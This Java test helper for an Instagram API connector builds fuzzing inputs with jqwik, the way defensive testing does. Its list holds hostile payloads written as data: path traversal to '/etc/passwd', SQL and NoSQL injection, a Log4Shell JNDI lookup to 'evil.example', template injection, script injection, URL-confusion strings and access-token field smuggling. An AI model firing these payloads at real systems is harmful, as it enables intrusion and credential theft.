package connector.instagram.api;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/** What nobody would send in good faith, as the value of a parameter. */
public final class HostileText {
  private static final List<String> KNOWN =
      List.of(
          "",
          " ",
          "\u0000",
          "\r\n\t",
          "null",
          "undefined",
          "true",
          "NaN",
          "Infinity",
          "-1",
          "0",
          "1e999999999",
          "9".repeat(19),
          "9".repeat(20),
          "9".repeat(32),
          "9".repeat(33),
          "9".repeat(50_000),
          "9".repeat(40) + "_1",
          "9223372036854775808_1",
          "0".repeat(10_000) + "1",
          "1." + "0".repeat(10_000),
          "1e" + "9".repeat(10_000),
          "-".repeat(10_000),
          "_".repeat(64),
          "A".repeat(64),
          "a,".repeat(10_000),
          ",".repeat(10_000),
          "(".repeat(10_000),
          "#".repeat(10_000),
          "\u0661\u0662\u0663",
          "\uff11\uff12\uff13",
          "\u00bd",
          "\ud835\udfcf",
          "\ud800",
          "\udfff\ud800",
          "\u202e1234",
          "\ufeff17895695668004550",
          "17895695668004550\u0000",
          "17895695668004550%00",
          "17895695668004550%2F..",
          "17895695668004550/../me",
          "17895695668004550?fields=id",
          "17895695668004550&access_token=x",
          "17895695668004550#",
          "..",
          "../../me",
          "..\\..\\me",
          "%2e%2e%2f",
          "/etc/passwd",
          "me",
          "me/media",
          "//evil.example/1",
          "@evil.example",
          "https://evil.example/p/tsxp1hhQTG/",
          "https://www.instagram.com/p/tsxp1hhQTG/",
          "https://www.instagram.com@evil.example/p/tsxp1hhQTG/",
          "https://www.instagram.com/p/" + "a".repeat(10_000),
          "https://www.instagram.com/" + "a/".repeat(5_000) + "p/tsxp1hhQTG",
          "https://www.instagram.com/p/tsxp1hhQTG/?" + "a=b&".repeat(10_000),
          "1' OR '1'='1",
          "1; DROP TABLE media; --",
          "{\"$gt\":\"\"}",
          "${jndi:ldap://evil.example/a}",
          "{{7*7}}",
          "<script>alert(1)</script>",
          "id{access_token}",
          "children{id,owner{access_token}}",
          "access_token",
          "insights.metric(reach)",
          "%",
          "%2",
          "%c3%28",
          "%u0041",
          "|",
          "{",
          "}",
          "^`\\\"<>",
          "a|b{c}",
          "-0",
          "+1",
          "0x11",
          "1_000",
          "1e-400",
          "1,5",
          "[17895695668004550]",
          "\"17895695668004550\"",
          "17895695668004550;x=y",
          "\u0085\u2028\u2029",
          "\ud83d\udca5".repeat(2_000),
          "https://www.instagram.com/share/p/tsxp1hhQTG/",
          "https://l.instagram.com/?u=" + "https://l.instagram.com/?u=".repeat(500),
          "https%3A%2F%2F".repeat(1_000),
          "//".repeat(5_000) + "p/tsxp1hhQTG",
          "%%%s%n%x",
          "%zz");

  private HostileText() {}

  /** The known tricks, as they are. */
  public static List<String> known() {
    return KNOWN;
  }

  /** Known tricks, random texts, and good values with something foreign in them. */
  public static Arbitrary<String> around(String... good) {
    Arbitrary<String> known = Arbitraries.of(KNOWN);
    Arbitrary<String> random = Arbitraries.strings().all().ofMaxLength(80);
    Arbitrary<String> printable = Arbitraries.strings().ascii().ofMaxLength(40);
    Arbitrary<String> digits = Arbitraries.strings().withChars("0123456789_.-+eE,").ofMaxLength(40);
    Arbitrary<String> letters =
        Arbitraries.strings().alpha().numeric().withChars('-', '_').ofMaxLength(70);
    Arbitrary<String> damaged =
        Combinators.combine(
                Arbitraries.of(good),
                Arbitraries.frequencyOf(
                    Tuple.of(2, Arbitraries.strings().all().ofLength(1)),
                    Tuple.of(1, Arbitraries.strings().ascii().ofLength(1)),
                    Tuple.of(1, known)),
                Arbitraries.doubles().between(0, 1))
            .as(
                (text, foreign, place) -> {
                  int at = (int) Math.round(place * text.length());
                  return text.substring(0, at) + foreign + text.substring(at);
                });
    return Arbitraries.frequencyOf(
        Tuple.of(2, known),
        Tuple.of(2, random),
        Tuple.of(1, printable),
        Tuple.of(2, digits),
        Tuple.of(2, letters),
        Tuple.of(3, damaged),
        Tuple.of(1, Arbitraries.of(good)));
  }
}
